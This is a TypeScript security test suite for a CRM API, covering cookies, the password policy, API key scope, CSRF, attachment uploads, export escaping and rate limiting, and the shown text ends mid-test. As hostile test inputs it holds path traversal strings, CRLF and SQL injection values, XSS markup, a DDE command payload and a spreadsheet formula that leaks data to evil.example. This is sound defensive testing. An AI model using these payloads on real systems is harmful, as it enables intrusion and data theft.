import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createOrganization } from '../src/modules/setup/create-organization';
import { type Session, startTestApp, type TestApp, testPassword } from './harness';

/**
 * Security checks that the other suites leave out: cookie attributes, the password policy on every
 * way a password is set, what an API key may do, CSRF bypass attempts, hostile file names and ids on
 * attachments, active content uploads, password spraying and the headers of every kind of answer.
 */

type Method = 'GET' | 'POST' | 'PATCH' | 'PUT' | 'DELETE';

const pdfBytes = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from([0, 1, 2, 254, 255]), Buffer.from('\n%%EOF\n')]);
const htmlWithScript = Buffer.from('<!doctype html><html><body><script>window.__xss=1</script></body></html>\n');
const svgWithScript = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"><script>window.__xss=1</script></svg>\n',
);

/** Passwords the policy must refuse: too short, one kind of character, or well known with digits around them. */
const refusedPasswords = [
  'Short-1',
  'abcdefghijklmn',
  '12345678901234',
  'password123',
  'Password2024!',
  'P@ssw0rd2024',
  'qwerty123456',
  '1q2w3e4r5t6y',
  'Welcome12345',
  'iloveyou2026',
  'Admin1234567',
  'aaaaaaaaaaaa1',
];
const strongPassword = 'Harbour-crane-42-Ningbo';
const passwordCodes = ['validation.too_small', 'auth.password_weak', 'auth.password_common'];

function setCookieHeaders(response: LightMyRequestResponse): string[] {
  const raw = response.headers['set-cookie'];
  return raw === undefined ? [] : [raw].flat().map(String);
}

function sessionSetCookie(response: LightMyRequestResponse): string {
  const header = setCookieHeaders(response).find((c) => c.startsWith('berth_session='));
  if (!header) throw new Error(`no session cookie in ${JSON.stringify(response.headers)}`);
  return header;
}

/** The attributes of a Set-Cookie header, lower-cased names → values ('' for flags). */
function cookieAttributes(header: string): Map<string, string> {
  const [, ...parts] = header.split(';').map((p) => p.trim());
  return new Map(
    parts.map((p) => {
      const eq = p.indexOf('=');
      return eq < 0 ? [p.toLowerCase(), ''] : [p.slice(0, eq).toLowerCase(), p.slice(eq + 1)];
    }),
  );
}

function fieldsOf(response: LightMyRequestResponse): string[] {
  return (response.json().errors ?? []).map((e: { field: string }) => e.field);
}

function expectProblem(response: LightMyRequestResponse, statuses: number[], label: string) {
  expect(statuses, `${label} → ${response.statusCode} ${response.body}`).toContain(response.statusCode);
  expect(response.headers['content-type'], label).toContain('application/problem+json');
  expect(response.json().status, label).toBe(response.statusCode);
}

async function upload(t: TestApp, as: Session, customerId: string, bytes: Buffer, fileName: string, type?: string) {
  const form = new FormData();
  form.append('file', new Blob([bytes], { type: type ?? 'application/octet-stream' }), fileName);
  return t.app.inject({
    method: 'POST',
    url: `/api/customers/${customerId}/attachments`,
    payload: form as never,
    headers: { cookie: as.cookie, 'x-csrf-token': as.csrfToken },
  });
}

/** A multipart body written by hand, for file name encodings FormData never produces. */
async function uploadRaw(t: TestApp, as: Session, customerId: string, disposition: string, bytes: Buffer) {
  const boundary = `----berth${randomUUID().replaceAll('-', '')}`;
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; ${disposition}\r\n`, 'latin1'),
    Buffer.from('Content-Type: application/octet-stream\r\n\r\n'),
    bytes,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return t.app.inject({
    method: 'POST',
    url: `/api/customers/${customerId}/attachments`,
    payload: body,
    headers: {
      'content-type': `multipart/form-data; boundary=${boundary}`,
      cookie: as.cookie,
      'x-csrf-token': as.csrfToken,
    },
  });
}

/** `inline|attachment; filename="<printable ASCII without quote, backslash, semicolon, percent>"; filename*=UTF-8''<pct-encoded>` */
const wellFormedDisposition =
  /^(inline|attachment); filename="[ !#$&-:<-[\]-~]*"; filename\*=UTF-8''[A-Za-z0-9\-_.!~%]+$/;

describe('security', () => {
  let t: TestApp;
  let admin: Session;
  let roleIds: Record<string, string>;

  const createKey = async (as: Session | { authorization: string }, roleId: string, name = 'key') => {
    const auth = 'authorization' in as ? { headers: { authorization: as.authorization } } : { as };
    return t.request('POST', '/api/api-keys', { ...auth, body: { name, roleId } });
  };
  const bearer = (secret: string) => ({ authorization: `Bearer ${secret}` });
  const download = (id: string) => t.request('GET', `/api/attachments/${id}/content`, { as: admin });

  beforeAll(async () => {
    t = await startTestApp({ ATTACHMENT_LIMIT_BYTES: String(64 * 1024) });
    admin = await t.setup('安全货代 Security Forwarding');
    const roles = (await t.request('GET', '/api/roles?limit=200', { as: admin })).json().items as {
      id: string;
      key: string;
    }[];
    roleIds = Object.fromEntries(roles.map((r) => [r.key, r.id]));
  });
  afterAll(() => t.close());

  describe('the session cookie', () => {
    it('is HttpOnly, SameSite=Lax, host-only on Path=/ and not Secure unless configured', async () => {
      const login = await t.request('POST', '/api/auth/login', {
        body: { email: admin.me.user.email, password: testPassword },
      });
      expect(login.statusCode).toBe(200);
      const header = sessionSetCookie(login);
      const attributes = cookieAttributes(header);
      expect(attributes.has('httponly')).toBe(true);
      expect(attributes.get('samesite')?.toLowerCase()).toBe('lax');
      expect(attributes.get('path')).toBe('/');
      expect(attributes.has('domain')).toBe(false);
      expect(attributes.has('secure')).toBe(false);
      expect(Number(attributes.get('max-age'))).toBe(7 * 24 * 3600);
      expect(login.headers['strict-transport-security']).toBeUndefined();
    });

    it('never appears in a response body, a URL or a stored column; only its hash is kept', async () => {
      const login = await t.request('POST', '/api/auth/login', {
        body: { email: admin.me.user.email, password: testPassword },
      });
      const token = decodeURIComponent(sessionSetCookie(login).split(';')[0]?.split('=')[1] ?? '');
      const secret = token.split('.').at(-1) as string;
      expect(secret.length).toBeGreaterThanOrEqual(20);
      const session = { cookie: `berth_session=${token}`, csrfToken: login.json().csrfToken, me: login.json() };
      expect(login.headers.location).toBeUndefined();
      const answers = [
        login,
        await t.request('GET', '/api/me', { as: session }),
        await t.request('GET', '/api/me/sessions', { as: session }),
        await t.request('GET', '/api/audit?entity=users&limit=200', { as: session }),
        await t.request('GET', '/api/users', { as: session }),
      ];
      for (const answer of answers) {
        expect(answer.statusCode).toBe(200);
        expect(answer.body).not.toContain(secret);
        expect(JSON.stringify(answer.headers).replace(sessionSetCookie(login), '')).not.toContain(secret);
      }
      // The CSRF token is not the session secret either.
      expect(session.csrfToken).not.toBe(secret);
      const stored = await t.db.execute(`select * from sessions`);
      expect(JSON.stringify(stored)).not.toContain(secret);
      // A token offered anywhere but the cookie is no credential.
      expect((await t.request('GET', `/api/me?berth_session=${encodeURIComponent(token)}`)).statusCode).toBe(401);
      expect((await t.request('GET', '/api/me', { headers: bearer(token) })).statusCode).toBe(401);
    });

    it('is cleared on sign-out with the same attributes', async () => {
      const session = await t.login(admin.me.user.email);
      const out = await t.request('POST', '/api/auth/logout', { as: session });
      expect(out.statusCode).toBe(204);
      const attributes = cookieAttributes(sessionSetCookie(out));
      expect(attributes.has('httponly')).toBe(true);
      expect(attributes.get('path')).toBe('/');
      const expires = attributes.get('expires');
      expect(expires === undefined ? Number(attributes.get('max-age')) <= 0 : Date.parse(expires) < Date.now()).toBe(
        true,
      );
    });

    it('is Secure, with HSTS, when COOKIE_SECURE=true', async () => {
      const secure = await startTestApp({ COOKIE_SECURE: 'true' });
      try {
        const setup = await secure.request('POST', '/api/setup', {
          body: {
            organization: { name: 'Secure Co.' },
            admin: { name: 'A', email: 'a@secure.example', password: testPassword },
          },
        });
        expect(setup.statusCode).toBe(201);
        expect(cookieAttributes(sessionSetCookie(setup)).has('secure')).toBe(true);
        expect(setup.headers['strict-transport-security']).toMatch(/max-age=\d{7,}/);
        const login = await secure.request('POST', '/api/auth/login', {
          body: { email: 'a@secure.example', password: testPassword },
        });
        const header = sessionSetCookie(login);
        expect(cookieAttributes(header).has('secure')).toBe(true);
        expect(cookieAttributes(header).has('httponly')).toBe(true);
        const cookie = header.split(';')[0] as string;
        const out = await secure.request('POST', '/api/auth/logout', {
          headers: { cookie, 'x-csrf-token': login.json().csrfToken },
        });
        expect(cookieAttributes(sessionSetCookie(out)).has('secure')).toBe(true);
      } finally {
        await secure.close();
      }
    });
  });

  describe('the password policy', () => {
    it('refuses short, one-kind and well-known passwords at first-run setup, on the password field', async () => {
      const fresh = await startTestApp();
      try {
        for (const password of refusedPasswords) {
          const response = await fresh.request('POST', '/api/setup', {
            body: { organization: { name: 'Weak Co.' }, admin: { name: 'A', email: 'a@weak.example', password } },
          });
          expect(response.statusCode, password).toBe(422);
          expect(new Set(fieldsOf(response)), password).toEqual(new Set(['admin.password']));
        }
        expect((await fresh.request('GET', '/api/setup')).json()).toEqual({
          setupRequired: true,
          sessionCookie: false,
        });
        const ok = await fresh.request('POST', '/api/setup', {
          body: {
            organization: { name: 'Weak Co.' },
            admin: { name: 'A', email: 'a@weak.example', password: strongPassword },
          },
        });
        expect(ok.statusCode).toBe(201);
      } finally {
        await fresh.close();
      }
    });

    it('refuses them when an administrator creates a user or resets a password', async () => {
      for (const password of refusedPasswords) {
        const created = await t.request('POST', '/api/users', {
          as: admin,
          body: {
            email: `weak-${randomUUID().slice(0, 8)}@example.com`,
            name: 'Weak',
            password,
            roleId: roleIds.sales_rep,
          },
          headers: { 'accept-language': 'en' },
        });
        expect(created.statusCode, password).toBe(422);
        expect(new Set(fieldsOf(created)), password).toEqual(new Set(['password']));
        expect(passwordCodes, password).toContain(created.json().errors[0].code);
      }
      const user = await t.userWithRole(admin, 'operations');
      for (const password of refusedPasswords) {
        const reset = await t.request('PATCH', `/api/users/${user.id}`, {
          headers: { 'if-match': '*' },
          as: admin,
          body: { password },
        });
        expect(reset.statusCode, password).toBe(422);
        expect(new Set(fieldsOf(reset)), password).toEqual(new Set(['password']));
      }
      // Nothing was reset: the user's session and password still work.
      expect((await t.request('GET', '/api/me', { as: user })).statusCode).toBe(200);
      const strong = await t.request('PATCH', `/api/users/${user.id}`, {
        headers: { 'if-match': '*' },
        as: admin,
        body: { password: strongPassword },
      });
      expect(strong.statusCode, strong.body).toBe(200);
      expect((await t.login(user.email, strongPassword)).me.user.id).toBe(user.id);
    });

    it('refuses them when users change their own password', async () => {
      const user = await t.userWithRole(admin, 'finance');
      for (const password of refusedPasswords) {
        const change = await t.request('POST', '/api/me/password', {
          as: user,
          body: { currentPassword: testPassword, newPassword: password },
        });
        expect(change.statusCode, password).toBe(422);
        expect(new Set(fieldsOf(change)), password).toEqual(new Set(['newPassword']));
      }
      expect((await t.login(user.email)).me.user.id).toBe(user.id);
    });
  });

  describe('API keys', () => {
    let repKey: { id: string; secret: string };

    beforeAll(async () => {
      const created = await createKey(admin, roleIds.sales_rep as string, 'rep key');
      expect(created.statusCode).toBe(201);
      repKey = created.json();
    });

    it('act with their role only: what the role lacks is 403, whoever created the key', async () => {
      const headers = bearer(repKey.secret);
      const user = await t.userWithRole(admin, 'marketing');
      const tagId = (await t.request('POST', '/api/tags', { as: admin, body: { name: 'Key tag' } })).json().id;
      const checks: [Method, string, unknown][] = [
        ['POST', '/api/api-keys', { name: 'escalate', roleId: roleIds.admin }],
        ['DELETE', `/api/api-keys/${repKey.id}`, undefined],
        ['PATCH', `/api/users/${user.id}`, { roleId: roleIds.admin }],
        ['POST', '/api/users', { email: 'x@example.com', name: 'X', password: strongPassword, roleId: roleIds.admin }],
        ['POST', '/api/roles', { key: 'sneaky', name: 'x', nameEn: 'x', permissions: {} }],
        ['PATCH', `/api/roles/${roleIds.sales_rep}`, { permissions: {} }],
        ['GET', '/api/audit', undefined],
        ['GET', '/api/api-keys', undefined],
        ['POST', '/api/teams', { name: 'Key team' }],
        ['GET', '/api/outbox', undefined],
        ['DELETE', `/api/tags/${tagId}`, undefined],
      ];
      for (const [method, url, body] of checks) {
        const response = await t.request(method, url, { headers, body });
        expect(response.statusCode, `${method} ${url}`).toBe(403);
        expect(response.json().code).toBe('permission.denied');
      }
      // What the role allows works, without a CSRF token.
      expect((await t.request('GET', '/api/customers', { headers })).statusCode).toBe(200);
      const created = await t.request('POST', '/api/customers', { headers, body: { name: 'Made by a key' } });
      expect(created.statusCode, created.body).toBe(201);
      expect((await t.request('GET', `/api/users/${user.id}`, { as: admin })).json().roleId).toBe(roleIds.marketing);
    });

    it("cannot act on the creator's account: profile, password and sessions are for people signed in", async () => {
      const headers = bearer(repKey.secret);
      const adminSession = await t.login(admin.me.user.email);
      const sessionId = (await t.request('GET', '/api/me/sessions', { as: adminSession })).json().items[0].id;
      const attempts: [Method, string, unknown][] = [
        ['PATCH', '/api/me', { name: 'Renamed by a key' }],
        ['POST', '/api/me/password', { currentPassword: testPassword, newPassword: strongPassword }],
        ['GET', '/api/me/sessions', undefined],
        ['DELETE', `/api/me/sessions/${sessionId}`, undefined],
      ];
      for (const [method, url, body] of attempts) {
        const response = await t.request(method, url, { headers, body });
        expect(response.statusCode, `${method} ${url} ${response.body}`).toBe(403);
      }
      expect((await t.request('GET', '/api/me', { as: adminSession })).json().user.name).toBe('Admin');
      expect((await t.request('GET', '/api/me', { as: adminSession })).statusCode).toBe(200);
    });

    it('cannot hand out more than their holder has: keys, users and roles stay within the granted rights', async () => {
      const keyManager = await t.request('POST', '/api/roles', {
        as: admin,
        body: {
          key: 'key_manager',
          name: '接口管理',
          nameEn: 'Key manager',
          permissions: {
            apiKeys: { read: 'org', create: 'org' },
            users: { read: 'org', create: 'org', update: 'org' },
            roles: { read: 'org', create: 'org', update: 'org' },
            customers: { read: 'org' },
          },
        },
      });
      expect(keyManager.statusCode, keyManager.body).toBe(201);
      const managerRoleId = keyManager.json().id as string;
      const holder = await t.userWithRole(admin, 'key_manager');
      const key = (await createKey(holder, managerRoleId)).json().secret as string;
      const readOnly = await t.request('POST', '/api/roles', {
        as: admin,
        body: { key: 'reader', name: '只读', nameEn: 'Reader', permissions: { customers: { read: 'own' } } },
      });
      for (const as of [{ as: holder }, { headers: bearer(key) }]) {
        const adminKey = await t.request('POST', '/api/api-keys', {
          ...as,
          body: { name: 'x', roleId: roleIds.admin },
        });
        expect(adminKey.statusCode, adminKey.body).toBe(403);
        const adminUser = await t.request('POST', '/api/users', {
          ...as,
          body: {
            email: `${randomUUID().slice(0, 8)}@example.com`,
            name: 'X',
            password: strongPassword,
            roleId: roleIds.admin,
          },
        });
        expect(adminUser.statusCode, adminUser.body).toBe(403);
        const promote = await t.request('PATCH', `/api/users/${holder.id}`, {
          ...as,
          headers: { ...('headers' in as ? as.headers : {}), 'if-match': '*' },
          body: { roleId: roleIds.admin },
        });
        expect(promote.statusCode, promote.body).toBe(403);
        const takeOver = await t.request('PATCH', `/api/users/${admin.me.user.id}`, {
          ...as,
          headers: { ...('headers' in as ? as.headers : {}), 'if-match': '*' },
          body: { password: strongPassword, email: 'attacker@example.com' },
        });
        expect(takeOver.statusCode, takeOver.body).toBe(403);
        const widen = await t.request('PATCH', `/api/roles/${managerRoleId}`, {
          ...as,
          headers: { ...('headers' in as ? as.headers : {}), 'if-match': '*' },
          body: { permissions: { apiKeys: { read: 'org', create: 'org', delete: 'org' }, audit: { read: 'org' } } },
        });
        expect(widen.statusCode, widen.body).toBe(403);
        const bigger = await t.request('POST', '/api/roles', {
          ...as,
          body: {
            key: `big_${randomUUID().slice(0, 6)}`,
            name: 'x',
            nameEn: 'x',
            permissions: { teams: { create: 'org' } },
          },
        });
        expect(bigger.statusCode, bigger.body).toBe(403);
        // Within the holder's own rights it works.
        const lesser = await t.request('POST', '/api/api-keys', {
          ...as,
          body: { name: 'reader', roleId: readOnly.json().id },
        });
        expect(lesser.statusCode, lesser.body).toBe(201);
      }
      expect((await t.request('GET', `/api/users/${holder.id}`, { as: admin })).json().roleId).toBe(managerRoleId);
      expect((await t.request('GET', '/api/me', { as: admin })).statusCode).toBe(200);
      // An administrator's key may create keys: its role allows it.
      const adminKey = (await createKey(admin, roleIds.admin as string)).json().secret as string;
      expect((await createKey({ authorization: `Bearer ${adminKey}` }, roleIds.admin as string)).statusCode).toBe(201);
    });

    it('answer 401 when revoked, expired, tampered with or malformed', async () => {
      const fresh = (await createKey(admin, roleIds.management as string)).json();
      const [, orgId, keyId, secret] = (fresh.secret as string).split('.') as [string, string, string, string];
      expect((await t.request('GET', '/api/customers', { headers: bearer(fresh.secret) })).statusCode).toBe(200);
      const flipped = `${secret.slice(0, -1)}${secret.endsWith('A') ? 'B' : 'A'}`;
      const malformed = [
        `Bearer bk.${orgId}.${keyId}.${flipped}`,
        `Bearer bk.${orgId}.${randomUUID()}.${secret}`,
        `Bearer bk.${randomUUID()}.${keyId}.${secret}`,
        `Bearer bk.${orgId}.${keyId}.${secret.slice(0, 10)}`,
        `Bearer bk.${orgId}.${keyId}`,
        `Bearer bk.${orgId.toUpperCase()}.${keyId}.${secret}`,
        `Bearer ${fresh.secret}x!`,
        `Basic ${Buffer.from(`x:${fresh.secret}`).toString('base64')}`,
        `Token ${fresh.secret}`,
        'Bearer',
        'Bearer ',
        `Bearer ${fresh.secret} ${fresh.secret}`,
        `Bearer bk.' or 1=1 --.${keyId}.${secret}`,
      ];
      for (const authorization of malformed) {
        const response = await t.request('GET', '/api/customers', { headers: { authorization } });
        expect(response.statusCode, authorization).toBe(401);
        expect(response.json().code).toBe('auth.unauthenticated');
      }
      await t.db.execute(`update api_keys set expires_at = now() - interval '1 second' where id = '${keyId}'`);
      expect((await t.request('GET', '/api/customers', { headers: bearer(fresh.secret) })).statusCode).toBe(401);
      await t.db.execute(`update api_keys set expires_at = now() + interval '1 day' where id = '${keyId}'`);
      expect((await t.request('GET', '/api/customers', { headers: bearer(fresh.secret) })).statusCode).toBe(200);
      expect((await t.request('DELETE', `/api/api-keys/${keyId}`, { as: admin })).statusCode).toBe(204);
      expect((await t.request('GET', '/api/customers', { headers: bearer(fresh.secret) })).statusCode).toBe(401);
    });

    it("of one organisation never reach another's records, even with the other tenant's id in the key", async () => {
      const orgB = await createOrganization(
        t.db,
        {
          organization: { name: 'Org B 货代' },
          admin: { name: 'B', email: 'admin@key-org-b.example', password: testPassword },
        },
        { onlyIfFirst: false },
      );
      const adminB = await t.login('admin@key-org-b.example');
      const customerB = (await t.request('POST', '/api/customers', { as: adminB, body: { name: 'Org B 客户' } })).json()
        .id;
      const keyA = (await createKey(admin, roleIds.admin as string, 'org A admin key')).json().secret as string;
      const headers = bearer(keyA);
      expect((await t.request('GET', `/api/customers/${customerB}`, { headers })).statusCode).toBe(404);
      expect(
        (
          await t.request('PATCH', `/api/customers/${customerB}`, {
            headers: { ...headers, 'if-match': '*' },
            body: { name: 'x' },
          })
        ).statusCode,
      ).toBe(404);
      const list = await t.request('GET', '/api/customers?limit=200', { headers });
      expect(list.body).not.toContain('Org B');
      expect((await t.request('GET', `/api/users/${adminB.me.user.id}`, { headers })).statusCode).toBe(404);
      const [, , keyId, secret] = keyA.split('.');
      const swapped = `bk.${orgB.orgId}.${keyId}.${secret}`;
      expect((await t.request('GET', '/api/customers', { headers: bearer(swapped) })).statusCode).toBe(401);
      expect((await t.request('GET', `/api/customers/${customerB}`, { as: adminB })).json().name).toBe('Org B 客户');
    });
  });

  describe('CSRF', () => {
    it('refuses cookie writes with the token of another session, of another user, or none, on every write method', async () => {
      const mine = await t.login(admin.me.user.email);
      const otherOfMine = await t.login(admin.me.user.email);
      const otherUser = await t.userWithRole(admin, 'admin');
      const team = (await t.request('POST', '/api/teams', { as: mine, body: { name: 'CSRF target' } })).json();
      const forged: [string, Record<string, string>][] = [
        ['no token', { cookie: mine.cookie }],
        ['empty token', { cookie: mine.cookie, 'x-csrf-token': '' }],
        ['token of my other session', { cookie: mine.cookie, 'x-csrf-token': otherOfMine.csrfToken }],
        ["another user's token", { cookie: mine.cookie, 'x-csrf-token': otherUser.csrfToken }],
        ['token with a suffix', { cookie: mine.cookie, 'x-csrf-token': `${mine.csrfToken}x` }],
        ['a bogus Authorization beside the cookie', { cookie: mine.cookie, authorization: 'Bearer bk.nonsense' }],
      ];
      const writes: [Method, string, unknown][] = [
        ['POST', '/api/teams', { name: 'Forged team' }],
        ['PATCH', `/api/teams/${team.id}`, { name: 'Forged name' }],
        ['DELETE', `/api/teams/${team.id}`, undefined],
        ['PATCH', '/api/me', { name: 'Forged' }],
        ['POST', '/api/auth/logout', undefined],
      ];
      for (const [label, headers] of forged) {
        for (const [method, url, body] of writes) {
          const response = await t.request(method, url, { headers, body });
          expect(response.statusCode, `${label}: ${method} ${url}`).toBe(403);
          expect(response.json().code).toBe('auth.csrf_invalid');
        }
      }
      const query = await t.request('POST', `/api/teams?csrfToken=${mine.csrfToken}`, {
        headers: { cookie: mine.cookie },
        body: { name: 'Forged team' },
      });
      expect(query.statusCode).toBe(403);
      // Nothing changed, and the session is still signed in.
      const after = (await t.request('GET', `/api/teams/${team.id}`, { as: mine })).json();
      expect(after).toMatchObject({ name: 'CSRF target', version: 1 });
      expect((await t.request('GET', '/api/teams?q=Forged', { as: mine })).json().items).toEqual([]);
      expect((await t.request('GET', '/api/me', { as: mine })).json().user.name).toBe('Admin');
    });

    it('is not needed for safe methods or API keys', async () => {
      const session = await t.login(admin.me.user.email);
      for (const url of ['/api/me', '/api/teams', '/api/customers', '/api/notifications/unread-count']) {
        expect((await t.request('GET', url, { headers: { cookie: session.cookie } })).statusCode, url).toBe(200);
      }
      const key = (await createKey(admin, roleIds.admin as string)).json().secret as string;
      const created = await t.request('POST', '/api/teams', { headers: bearer(key), body: { name: 'Key-made team' } });
      expect(created.statusCode).toBe(201);
      const patched = await t.request('PATCH', `/api/teams/${created.json().id}`, {
        headers: { ...bearer(key), 'if-match': '*' },
        body: { name: 'Key-made team 2' },
      });
      expect(patched.statusCode).toBe(200);
    });
  });

  describe('attachments', () => {
    let customerId: string;

    beforeAll(async () => {
      customerId = (
        await t.request('POST', '/api/customers', { as: admin, body: { name: '附件安全 Files Ltd' } })
      ).json().id;
    });

    it('keep only the last segment of hostile file names and serve a well-formed Content-Disposition', async () => {
      const cases: [string, string][] = [
        ['../../etc/passwd', 'passwd'],
        ['..\\..\\x.pdf', 'x.pdf'],
        ['C:\\Users\\ops\\..\\..\\boot.pdf', 'boot.pdf'],
        ['/etc/../root/.ssh/id_rsa.pdf', 'id_rsa.pdf'],
        ['....pdf', 'pdf'],
        ['.hidden.pdf', 'hidden.pdf'],
        ['evil\r\nSet-Cookie: berth_session=stolen.pdf', 'evilSet-Cookie: berth_session=stolen.pdf'],
        ['quote"; filename=evil.exe; x=".pdf', 'quote"; filename=evil.exe; x=".pdf'],
        ['tab\there\u0000null.pdf', 'tabherenull.pdf'],
        ['合同%0d%0a%22.pdf', '合同\r\n".pdf'.replace(/[\r\n]/g, '')],
      ];
      for (const [raw, stored] of cases) {
        const created = await upload(t, admin, customerId, pdfBytes, raw, 'text/html');
        expect(created.statusCode, `${raw}: ${created.body}`).toBe(201);
        const attachment = created.json();
        expect(attachment.fileName, raw).toBe(stored);
        expect(attachment.contentType, raw).toBe('application/pdf');
        const file = await download(attachment.id);
        expect(file.statusCode).toBe(200);
        expect(file.rawPayload.equals(pdfBytes)).toBe(true);
        expect(file.headers['set-cookie'], raw).toBeUndefined();
        const disposition = String(file.headers['content-disposition']);
        // Anchored: one quoted plain name that cannot close early, then the exact name percent-encoded.
        expect(disposition, raw).toMatch(wellFormedDisposition);
        expect(decodeURIComponent(disposition.split("UTF-8''")[1] as string), raw).toBe(stored);
      }
    });

    it('decode RFC 5987 names in the upload and still strip paths; a name with line breaks is no file', async () => {
      const traversal = `filename*=UTF-8''..%2F..%2Fetc%2F%E5%90%88%E5%90%8C%20%22x%22%3B%201.pdf`;
      const created = await uploadRaw(t, admin, customerId, traversal, pdfBytes);
      expect(created.statusCode, created.body).toBe(201);
      expect(created.json().fileName).toBe('合同 "x"; 1.pdf');
      expect(String((await download(created.json().id)).headers['content-disposition'])).toMatch(wellFormedDisposition);
      const before = (
        await t.request('GET', `/api/customers/${customerId}/attachments?limit=200`, { as: admin })
      ).json().items.length;
      const injected = `filename*=UTF-8''evil%0D%0AX-Injected%3A%201.pdf`;
      const refused = await uploadRaw(t, admin, customerId, injected, pdfBytes);
      expect(refused.statusCode).toBe(422);
      expect(refused.json().errors[0].field).toBe('file');
      const after = (await t.request('GET', `/api/customers/${customerId}/attachments?limit=200`, { as: admin })).json()
        .items.length;
      expect(after).toBe(before);
      const quoted = await uploadRaw(t, admin, customerId, 'filename="a\\"b\\\\..\\\\c.pdf"', pdfBytes);
      expect(quoted.statusCode, quoted.body).toBe(201);
      expect(quoted.json().fileName).not.toMatch(/[\\/]/);
      expect(String((await download(quoted.json().id)).headers['content-disposition'])).toMatch(wellFormedDisposition);
    });

    it('answer problem+json 400/404 to traversal and junk in ids, never a file', async () => {
      const ids = [
        '..%2F..%2Fetc%2Fpasswd',
        '..%252F..%252Fetc%252Fpasswd',
        '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
        '..%5C..%5Cwindows%5Cwin.ini',
        '%00',
        'not-a-uuid',
        `${randomUUID()}%00.pdf`,
        `${randomUUID()}'%20or%20'1'='1`,
        randomUUID().toUpperCase().replace(/./, 'Z'),
        '%E0%A4%A',
        'x'.repeat(5000),
      ];
      for (const id of ids) {
        for (const [method, url] of [
          ['GET', `/api/attachments/${id}/content`],
          ['DELETE', `/api/attachments/${id}`],
          ['GET', `/api/customers/${id}/attachments`],
        ] as [Method, string][]) {
          const response = await t.request(method, url, { as: admin });
          expectProblem(response, [400, 404], `${method} ${url.slice(0, 80)}`);
          expect(response.body).not.toContain('root:');
        }
      }
      // Dot segments resolve before routing: outside /api/ they only ever reach the console page.
      for (const url of [
        '/api/attachments/../../etc/passwd',
        '/api/attachments/%2e%2e/%2e%2e/etc/passwd/content',
        '/assets/../../../../etc/passwd',
        '/../package.json',
      ]) {
        const response = await t.request('GET', url, { as: admin });
        expect(response.body, url).not.toContain('root:');
        expect(response.body, url).not.toContain('"workspaces"');
        expect(String(response.headers['content-type']), url).toMatch(
          /^(text\/html|text\/plain|application\/problem\+json)/,
        );
      }
    });

    it('refuse HTML and SVG, whatever they are called, and never serve text inline', async () => {
      const refused: [Buffer, string][] = [
        [htmlWithScript, 'page.html'],
        [htmlWithScript, 'page.htm'],
        [svgWithScript, 'logo.svg'],
        [svgWithScript, 'logo.png'],
        [htmlWithScript, 'contract.pdf'],
        [htmlWithScript, 'page'],
        [Buffer.concat([Buffer.from('%PDF-1.4\n'), htmlWithScript]), 'page.html'],
        [Buffer.from('<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>'), 'a.xml'],
      ];
      for (const [bytes, name] of refused) {
        const response = await upload(t, admin, customerId, bytes, name, 'text/html');
        expect(response.statusCode, name).toBe(415);
        expect(response.headers['content-type']).toContain('application/problem+json');
      }
      // Markup in a text file is stored as text and only ever downloaded.
      for (const name of ['notes.txt', 'list.csv']) {
        const created = await upload(t, admin, customerId, htmlWithScript, name, 'text/html');
        expect(created.statusCode, created.body).toBe(201);
        const file = await download(created.json().id);
        expect(file.headers['content-type']).toMatch(/^text\/(plain|csv); charset=utf-8$/);
        expect(String(file.headers['content-disposition']).startsWith('attachment; ')).toBe(true);
        expect(file.headers['x-content-type-options']).toBe('nosniff');
        expect(String(file.headers['content-security-policy'])).toContain("default-src 'self'");
      }
      // An image that is also markup is served as the image it claims to be, never sniffed.
      const polyglot = Buffer.concat([Buffer.from('GIF89a'), htmlWithScript]);
      const gif = await upload(t, admin, customerId, polyglot, 'x.gif', 'text/html');
      expect(gif.statusCode, gif.body).toBe(201);
      const served = await download(gif.json().id);
      expect(served.headers['content-type']).toBe('image/gif');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(String(served.headers['content-security-policy'])).toMatch(/script-src 'self'(;|$)/);
      const names = (await t.request('GET', `/api/customers/${customerId}/attachments?limit=200`, { as: admin }))
        .json()
        .items.map((a: { fileName: string }) => a.fileName);
      expect(names.filter((n: string) => /\.(html?|svg|xml)$/i.test(n))).toEqual([]);
    });
  });

  describe('exports', () => {
    it('never hand a spreadsheet a formula: text that starts like one stays text', async () => {
      const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
      const dde = "@SUM(1+1)*cmd|' /C calc'!A0";
      const created = await t.request('POST', '/api/customers', {
        as: admin,
        body: { name: formula, address: dde, industry: '-2+3+cmd|x', phone: '+8613800138000' },
      });
      expect(created.statusCode, created.body).toBe(201);
      const csv = await t.request('GET', `/api/customers/export?format=csv&q=${encodeURIComponent('HYPERLINK')}`, {
        as: admin,
      });
      expect(csv.statusCode).toBe(200);
      const cells = csv.body
        .replace(/^\uFEFF/, '')
        .split(/\r?\n/)
        .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
        .map((cell) => cell.replace(/^"|"$/g, '').replaceAll('""', '"'));
      expect(cells).toContain(`'${formula}`);
      expect(cells).toContain(`'${dde}`);
      expect(cells).toContain("'-2+3+cmd|x");
      // A phone number, written as people write it, is left as it is: a plus followed by digits is no formula.
      expect(cells).toContain('+86 138 0013 8000');
      expect(cells.filter((cell) => /^[=@]|^[+-].*[^\d\s().-]/.test(cell))).toEqual([]);
      // In .xlsx the same text is a typed string cell, never a formula.
      const xlsx = await t.request('GET', `/api/customers/export?format=xlsx&q=${encodeURIComponent('HYPERLINK')}`, {
        as: admin,
      });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
      const row = workbook.worksheets[0]?.getRow(2);
      expect(row?.getCell(2).type).toBe(ExcelJS.ValueType.String);
      expect(row?.getCell(2).value).toBe(formula);
    });
  });

  describe('brute force', () => {
    it('limits sign-ins from one address across many emails, but not other addresses', async () => {
      const limited = await startTestApp({ LOGIN_RATE_PER_MINUTE: '3' });
      try {
        const attempt = (email: string, remoteAddress: string) =>
          limited.app.inject({
